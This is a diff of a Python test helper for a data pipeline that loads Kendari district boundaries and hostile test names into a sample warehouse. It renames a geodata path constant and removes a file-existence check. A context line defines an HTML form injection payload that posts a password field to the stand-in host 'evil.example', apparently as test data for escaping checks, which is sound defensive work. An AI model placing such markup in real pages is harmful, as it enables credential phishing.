@@ -10,7 +10,7 @@ from pathlib import Path
 
 import openpyxl
 
-from tests.conftest import SHARED_GEO, run_etl
+from tests.conftest import GEO, run_etl
 
 EVIL = "evil.example"
 FORM = f"<form action=http://{EVIL}/x><input type=password name=p></form>"
@@ -46,17 +46,17 @@ def _xlsx(path: Path, head: list, rows: list) -> Path:
 
 def build(sample_data_dir: Path, tmp: Path, boundaries: bool = False) -> Path:
     """A copy of the sample warehouse with the hostile names loaded (names by code last: later files match
-    kecamatan by name). With `boundaries`, Kendari's real boundaries too when ../shared/geo is there (the map
+    kecamatan by name). With `boundaries`, Kendari's real boundaries (data/publik/batas) loaded again (the map
     is then a choropleth with coverage and siting proposals)."""
     d = tmp / "data"
     shutil.copytree(sample_data_dir, d)
-    if boundaries and (SHARED_GEO / "kendari_kecamatan.geojson").exists():
+    if boundaries:
         run_etl(
             d,
             "load",
             "batas",
-            str(SHARED_GEO / "kendari_kecamatan.geojson"),
-            str(SHARED_GEO / "kendari_kelurahan.geojson"),
+            str(GEO / "kendari_kecamatan.geojson"),
+            str(GEO / "kendari_kelurahan.geojson"),
         )
     inputs = tmp / "masukan"
     inputs.mkdir()
